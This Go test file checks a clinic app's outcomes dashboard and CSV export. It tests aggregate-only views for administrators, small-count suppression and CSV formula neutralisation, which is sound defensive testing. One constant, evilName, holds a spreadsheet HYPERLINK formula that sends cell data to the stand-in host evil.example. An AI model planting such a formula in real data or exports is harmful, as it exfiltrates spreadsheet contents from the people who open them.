package staff_test

import (
	"context"
	"encoding/csv"
	"html/template"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kapstone/kapstone/internal/auth"
	"github.com/kapstone/kapstone/internal/clinic"
	"github.com/kapstone/kapstone/internal/store"
	"github.com/kapstone/kapstone/internal/web/staff"
	"github.com/kapstone/kapstone/internal/web/webtest"
)

// evilName is a therapist's name that a spreadsheet would run as a
// formula if a CSV cell began with it.
const evilName = `=HYPERLINK("https://evil.example/?"&A1,"Eve")`

// TestOutcomesAdminSeesOnlyAggregates: an administrator's /outcomes and
// its CSV carry no patient's name, id or pseudonymous key and no
// per-course row; a therapist with 3 courses is shown as "fewer than 5"
// (and the other therapist's row hidden too, so it cannot be worked out
// from the total); the CSV cell of a therapist whose name is a formula is
// neutralised. A therapist still gets per-course rows for their own
// patients, and only theirs.
func TestOutcomesAdminSeesOnlyAggregates(t *testing.T) {
	f := webtest.NewFixture(t)
	ctx := context.Background()
	hash, _ := auth.HashPassword(webtest.TestPassword, webtest.Cheap)
	eve := &clinic.User{Email: "eve@example.org", DisplayName: evilName, Role: clinic.RoleTherapist}
	if err := f.St.CreateUserWithTOTP(ctx, store.System, eve, hash, webtest.TOTPSecret); err != nil {
		t.Fatal(err)
	}
	f.Users[eve.Email] = eve
	type pt struct{ id, name, owner string }
	patients := []pt{{f.PA.ID, webtest.CanaryA, "thea@example.org"}}
	for i := range 2 {
		name := "Thea Patient " + strconv.Itoa(i)
		p := &store.Patient{DisplayName: name}
		if err := f.St.CreatePatient(ctx, f.As("thea@example.org"), p, ""); err != nil {
			t.Fatal(err)
		}
		patients = append(patients, pt{p.ID, name, "thea@example.org"})
	}
	for i := range 6 {
		name := "Eve Patient " + strconv.Itoa(i)
		p := &store.Patient{DisplayName: name}
		if err := f.St.CreatePatient(ctx, f.As(eve.Email), p, ""); err != nil {
			t.Fatal(err)
		}
		patients = append(patients, pt{p.ID, name, eve.Email})
	}
	for i, p := range patients {
		f.PaperFor(p.owner, p.id, "phq9", 20, f.Now.Add(-6*7*24*time.Hour))
		f.PaperFor(p.owner, p.id, "phq9", []int{8, 12, 15}[i%3], f.Now.Add(-time.Hour)) // a response one time in three
	}
	// Two of Eve's patients whose window closed without a follow-up.
	for i := range 2 {
		name := "Eve Lost " + strconv.Itoa(i)
		p := &store.Patient{DisplayName: name}
		if err := f.St.CreatePatient(ctx, f.As(eve.Email), p, ""); err != nil {
			t.Fatal(err)
		}
		patients = append(patients, pt{p.ID, name, eve.Email})
		f.PaperFor(eve.Email, p.ID, "phq9", 18, f.Now.Add(-20*7*24*time.Hour))
	}
	leaks := func(what, body string) {
		t.Helper()
		for _, p := range append(patients, pt{f.PB.ID, webtest.CanaryB, ""}) {
			if strings.Contains(body, p.id) || strings.Contains(body, p.name) {
				t.Errorf("%s names patient %s", what, p.name)
			}
		}
	}

	admin := f.SignIn("admin@example.org")
	r := f.Do("GET", "/outcomes", nil, admin)
	if r.Status != http.StatusOK {
		t.Fatalf("admin /outcomes = %d", r.Status)
	}
	leaks("the admin's dashboard", r.Body)
	row := func(body, name string) string {
		got := regexp.MustCompile(`(?s)<th scope="row">` + regexp.QuoteMeta(name) + `</th>(.*?)</tr>`).FindStringSubmatch(body + "<th scope=\"row\">" + name + "</th></tr>")[1]
		return regexp.MustCompile(` data-label="[^"]*"`).ReplaceAllString(got, "") // the column names a phone shows
	}
	if got := row(r.Body, "Thea Therapist"); !strings.Contains(got, "<td>fewer than 5</td>") || strings.Contains(got, "%") {
		t.Errorf("the admin's row for a therapist with 3 courses = %q, want fewer than 5 and no rates", got)
	}
	if got := row(r.Body, template.HTMLEscapeString(evilName)); !strings.Contains(got, "<td>hidden</td>") || strings.Contains(got, "%") {
		t.Errorf("the admin's row for the other therapist (6 courses) = %q, want hidden (else 9 − 6 tells Thea's)", got)
	}
	if got := row(r.Body, "All courses"); !strings.Contains(got, "<td>9</td>") || !strings.Contains(got, "3/9") || !strings.Contains(got, "<td>fewer than 5</td>") {
		t.Errorf("the admin's All courses row = %q, want 9 courses, response 3/9, fewer than 5 without a follow-up", got)
	}
	// 11 courses due minus the first line's 9 would tell the 2 without a
	// follow-up: the second line is hidden.
	if got := row(r.Body, "All courses, intention to treat"); !strings.Contains(got, "<td>hidden</td>") || strings.Contains(got, "%") {
		t.Errorf("the admin's intention-to-treat row = %q, want hidden", got)
	}
	if !strings.Contains(r.Body, `id="suppression"`) {
		t.Error("the admin's dashboard does not say why some rows are hidden")
	}

	c := f.Do("GET", "/outcomes.csv", nil, admin)
	if c.Status != http.StatusOK {
		t.Fatalf("admin /outcomes.csv = %d", c.Status)
	}
	leaks("the admin's CSV", c.Body)
	rows, err := csv.NewReader(strings.NewReader(c.Body)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("admin CSV: %v, %d rows", err, len(rows))
	}
	if slices.Contains(rows[0], "patient_key") || !slices.Contains(rows[0], "mean_change") {
		t.Errorf("admin CSV header = %q, want aggregates (mean_change), no patient_key", rows[0])
	}
	var thea, evil, all []string
	for _, row := range rows[1:] {
		if row[0] != "phq9" {
			continue
		}
		switch {
		case row[2] == "therapist" && row[3] == "Thea Therapist":
			thea = row
		case row[2] == "therapist":
			evil = row
		case row[2] == "all":
			all = row
		}
	}
	if thea == nil || thea[4] != "fewer than 5" || slices.ContainsFunc(thea[5:], func(s string) bool { return s != "fewer than 5" }) {
		t.Errorf("admin CSV row for Thea's 3 courses = %q, want every figure as fewer than 5", thea)
	}
	if evil == nil || evil[3] != "'"+evilName || evil[4] != "hidden" {
		t.Errorf("admin CSV row for the therapist named as a formula = %q, want the name after a quote and the row hidden", evil)
	}
	if all == nil || all[4] != "9" || all[6] != "fewer than 5" || all[8] != "3" {
		t.Errorf("admin CSV all-courses row = %q, want 9 courses, fewer than 5 without a follow-up, 3 responses", all)
	}
	if strings.Contains(c.Body, ","+evilName) || strings.Contains(c.Body, `,"=`) {
		t.Error("a CSV cell begins with a formula")
	}

	// Thea sees per-course rows for her own three patients, none of Eve's.
	tc := f.Do("GET", "/outcomes.csv", nil, f.SignIn("thea@example.org"))
	trows, err := csv.NewReader(strings.NewReader(tc.Body)).ReadAll()
	if tc.Status != http.StatusOK || err != nil || len(trows) == 0 || trows[0][0] != "patient_key" {
		t.Fatalf("thea's CSV = %d, %v", tc.Status, err)
	}
	keys := map[string]bool{}
	for _, row := range trows[1:] {
		if row[1] == "phq9" && row[0] != "" {
			keys[row[0]] = true
		}
	}
	if len(keys) != 3 {
		t.Logf("thea's CSV:\n%s", tc.Body)
		t.Errorf("thea's CSV has %d patients' PHQ-9 courses, want her 3", len(keys))
	}
	tp := f.Do("GET", "/outcomes", nil, f.SignIn("thea@example.org"))
	if got := row(tp.Body, "All courses"); !strings.Contains(got, "<td>3</td>") || strings.Contains(tp.Body, `id="suppression"`) {
		t.Errorf("thea's All courses row = %q, want her 3 courses shown", got)
	}
	t.Logf("admin CSV: %d rows; thea's: %d per-course rows", len(rows)-1, len(trows)-1)
}

// TestOutcomesSuppressionCannotBeSubtracted: a therapist row hidden because
// one of its counts is small (3 followed up, 6 without) hides another row
// too; otherwise the All courses row minus the one shown row would tell
// the hidden therapist's 3 patients' responses (the review found this).
func TestOutcomesSuppressionCannotBeSubtracted(t *testing.T) {
	for _, tt := range []struct {
		rows [][2]int
		want []bool
	}{
		{[][2]int{{3, 6}, {30, 10}}, []bool{true, true}},
		{[][2]int{{30, 3}, {30, 10}, {12, 0}}, []bool{true, false, true}},
		{[][2]int{{30, 10}, {12, 0}}, []bool{false, false}},
	} {
		if got := staff.SuppressCounts(tt.rows); !slices.Equal(got, tt.want) {
			t.Errorf("rows %v: hidden %v, want %v", tt.rows, got, tt.want)
		}
	}
}
